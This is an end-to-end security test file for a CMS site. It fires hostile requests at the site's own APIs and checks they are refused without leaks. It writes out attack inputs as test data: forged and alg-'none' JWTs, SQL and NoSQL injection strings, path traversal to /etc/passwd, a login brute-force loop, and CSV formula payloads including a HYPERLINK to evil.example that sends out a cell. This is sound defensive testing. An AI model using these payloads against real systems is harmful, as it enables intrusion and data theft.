import { createHash, createHmac } from 'node:crypto'
import { expect, test } from '../e2e/support/test'
import { ADMIN_CREDENTIALS, EDITOR_CREDENTIALS } from '../../src/cms/seed/credentials'
import { E2E } from '../e2e/support/env'
import { fastCaptchaToken } from '../e2e/support/fast-captcha'
import { clientBody, counts, expectAlive, expectNoInternals, expectNothingStored, json } from '../e2e/support/hostile'
import { copyOfE2eDatabase, startServer, stopServer } from '../e2e/support/server-process'

/**
 * Hostile requests against GraphQL, Payload's REST API and sign-in, the CSV export and search, on
 * the production build: refused cleanly (never 500), nothing stored, no internals shown.
 */
const GRAPHQL = `${E2E.origin}/api/graphql`

async function graphql(body: unknown, headers: Record<string, string> = {}) {
  const res = await fetch(GRAPHQL, { ...json(body, headers), signal: AbortSignal.timeout(30_000) })
  const text = await res.text()
  expectNoInternals(text)
  return { status: res.status, text, body: JSON.parse(text) as { data?: unknown; errors?: Array<{ message: string }> } }
}

const messages = (b: { errors?: Array<{ message: string }> }) => (b.errors ?? []).map((e) => e.message).join(' | ')

// ── JSON Web Tokens ─────────────────────────────────────────────────────────────────────────
const b64url = (v: string | Buffer) => Buffer.from(v).toString('base64url')
/** Payload signs with the first 32 hex characters of sha256(PAYLOAD_SECRET), HS256. */
function jwt(claims: object, secret: string, alg = 'HS256'): string {
  const head = b64url(JSON.stringify({ alg, typ: 'JWT' }))
  const body = b64url(JSON.stringify(claims))
  if (alg === 'none') return `${head}.${body}.`
  const key = createHash('sha256').update(secret).digest('hex').slice(0, 32)
  return `${head}.${body}.${createHmac('sha256', key).update(`${head}.${body}`).digest('base64url')}`
}

// depth, cost, aliases, limits, fragment cycles and batches: tests/security/graphql.spec.ts
test.describe('GraphQL access', () => {
  test('a lead cannot be written or read over GraphQL', async () => {
    const before = await counts()
    const write = await graphql({
      query:
        'mutation { createFormSubmission(data: { topic: cv, formId: 6, firstName: "x", lastName: "y", email: "a@b.example" }) { id } }',
    })
    expect(messages(write.body)).toMatch(/not allowed|Cannot query field|Unknown/i)
    const read = await graphql({ query: '{ FormSubmissions { docs { email } } }' })
    expect(messages(read.body)).toMatch(/not allowed|Cannot query field/i)
    expect(JSON.stringify(read.body.data ?? null)).not.toContain('@')
    await expectNothingStored(before)
  })
})

test.describe('forged and expired tokens', () => {
  const claims = (extra: object = {}) => ({
    id: 1,
    collection: 'users',
    email: ADMIN_CREDENTIALS.email,
    iat: Math.floor(Date.now() / 1000) - 60,
    exp: Math.floor(Date.now() / 1000) + 3600,
    ...extra,
  })
  for (const [name, token] of [
    ['signed with a guessed secret', () => jwt(claims(), 'secret')],
    ['with alg "none"', () => jwt(claims(), '', 'none')],
    ['expired (right secret)', () => jwt(claims({ exp: Math.floor(Date.now() / 1000) - 10 }), E2E.env.PAYLOAD_SECRET!)],
    ['garbage', () => 'not.a.jwt'],
  ] as const) {
    test(`a token ${name} is nobody`, async () => {
      const auth = { authorization: `JWT ${token()}` }
      const me = await fetch(`${E2E.origin}/api/users/me`, { headers: auth })
      expect(me.status).toBe(200)
      expect((await me.json()).user).toBeNull()
      const leads = await fetch(`${E2E.origin}/api/form-submissions`, {
        headers: { authorization: `Bearer ${token()}` },
      })
      expect(leads.status).toBe(403)
      expectNoInternals(await leads.text())
      const { body } = await graphql({ query: '{ meUser { user { email } } }' }, auth)
      expect(JSON.stringify(body)).not.toContain(ADMIN_CREDENTIALS.email)
    })
  }

  test('REST without a session can neither create nor list leads or CVs', async () => {
    const before = await counts()
    const create = await fetch(
      `${E2E.origin}/api/form-submissions`,
      json({ topic: 'cv', formId: 6, firstName: 'x', lastName: 'y', email: 'a@b.example' }),
    )
    expect(create.status).toBe(403)
    for (const path of ['/api/form-submissions', '/api/cv-files', '/api/users', '/api/form-submissions/export.csv']) {
      const res = await fetch(`${E2E.origin}${path}`)
      expect(res.status, path).toBe(403)
      expectNoInternals(await res.text())
    }
    await expectNothingStored(before)
  })

  test('query-string injection into REST filters answers cleanly', async () => {
    for (const q of [
      'where[or][0][title][like]=%25%27%20OR%201%3D1--',
      'where[$where]=sleep(5000)',
      'where[title][$ne]=x',
      'where[__proto__][polluted]=1',
      'depth=999&limit=999999',
      'sort=;DROP TABLE offices',
    ]) {
      const started = Date.now()
      const res = await fetch(`${E2E.origin}/api/offices?${q}`)
      expect([200, 400, 403], q).toContain(res.status)
      expectNoInternals(await res.text())
      expect(Date.now() - started).toBeLessThan(5_000)
    }
    await expectAlive()
  })
})

test.describe('sign-in', () => {
  test('brute force locks the account, and every failure looks and takes the same', async () => {
    test.setTimeout(180_000)
    // on a copy, so the suite's own editor account is never locked
    const database = await copyOfE2eDatabase('security-login')
    const server = await startServer(E2E.port + 9, { DATABASE_URL: `file:${database}`, JOBS_AUTORUN: '0' })
    const login = async (email: unknown, password: unknown) => {
      const started = Date.now()
      const res = await fetch(`${server.origin}/api/users/login`, json({ email, password }))
      const text = await res.text()
      expectNoInternals(text)
      return { status: res.status, text, ms: Date.now() - started, cookie: res.headers.get('set-cookie') }
    }
    try {
      // the first request of a fresh server loads the CMS: not part of what is compared
      await login('warm-up@arden-hale.example', 'whatever-2026!')
      const unknown = await login('nobody@arden-hale.example', 'whatever-2026!')
      const wrong: Array<Awaited<ReturnType<typeof login>>> = []
      for (let i = 0; i < 6; i++) wrong.push(await login(EDITOR_CREDENTIALS.email, `wrong-${i}`))
      const locked = await login(EDITOR_CREDENTIALS.email, EDITOR_CREDENTIALS.password)
      const lockedUnknown = await login('nobody@arden-hale.example', 'whatever-2026!')
      const all = [unknown, ...wrong, locked, lockedUnknown]
      for (const r of all) {
        expect(r.status).toBe(401)
        expect(r.text).toBe(unknown.text)
        expect(r.cookie).toBeNull()
        expect(r.ms).toBeGreaterThanOrEqual(380)
      }
      expect(JSON.parse(unknown.text)).toEqual({
        errors: [{ message: 'The email or password provided is incorrect.' }],
      })
      const times = all.map((r) => r.ms)
      expect(Math.max(...times)).toBeLessThan(Math.min(...times) * 2.5)
      // operators and wrong types never sign anyone in
      for (const [email, password] of [
        [{ $ne: null }, { $ne: null }],
        [ADMIN_CREDENTIALS.email, { $gt: '' }],
        [[ADMIN_CREDENTIALS.email], ADMIN_CREDENTIALS.password.split('')],
      ]) {
        const r = await login(email, password)
        expect([400, 401]).toContain(r.status)
        expect(r.cookie).toBeNull()
      }
      // the other account still signs in: the lock is per account
      expect((await login(ADMIN_CREDENTIALS.email, ADMIN_CREDENTIALS.password)).status).toBe(200)
    } finally {
      await stopServer(server)
    }
  })
})

test.describe('exports and search', () => {
  test('a formula in a lead is neutralised in the CSV export', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    const res = await fetch(
      `${E2E.origin}/api/v1/forms/8`,
      json(
        clientBody({
          company: formula,
          job_title: '+SUM(1+1)*cmd|/C calc!A0',
          captcha_token: await fastCaptchaToken(),
        }),
      ),
    )
    expect(res.status).toBe(200)
    const signIn = await fetch(
      `${E2E.origin}/api/users/login`,
      json({ email: ADMIN_CREDENTIALS.email, password: ADMIN_CREDENTIALS.password }),
    )
    const { token } = (await signIn.json()) as { token: string }
    const csv = await (
      await fetch(`${E2E.origin}/api/form-submissions/export.csv`, { headers: { authorization: `JWT ${token}` } })
    ).text()
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
    expect(csv).toContain("'+SUM(1+1)*cmd|/C calc!A0")
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m)
  })

  test('search answers hostile queries with 200 or 400, never 500', async () => {
    for (const q of [
      `' OR 1=1 --`,
      '"unterminated',
      'NEAR(a b',
      'title:secret*',
      'a AND OR NOT ) ( *',
      '^*:"',
      '%00\u0000',
      '\u202Eevil',
      'x'.repeat(10_000),
      '{"$gt":""}',
    ]) {
      const res = await fetch(`${E2E.origin}/search?q=${encodeURIComponent(q)}`)
      expect([200, 400], q.slice(0, 40)).toContain(res.status)
      expectNoInternals(await res.text())
    }
    await expectAlive()
  })

  test('error pages and API errors show no internals', async () => {
    for (const [path, init] of [
      ['/this-page-does-not-exist', {}],
      ['/api/does-not-exist', {}],
      ['/api/users/login', json('{"email": ')],
      ['/api/offices/not-an-id', {}],
      ['/_next/static/../../../../etc/passwd', {}],
    ] as const) {
      const res = await fetch(`${E2E.origin}${path}`, init)
      expect(res.status, path).toBeLessThan(500)
      expectNoInternals(await res.text())
    }
  })
})
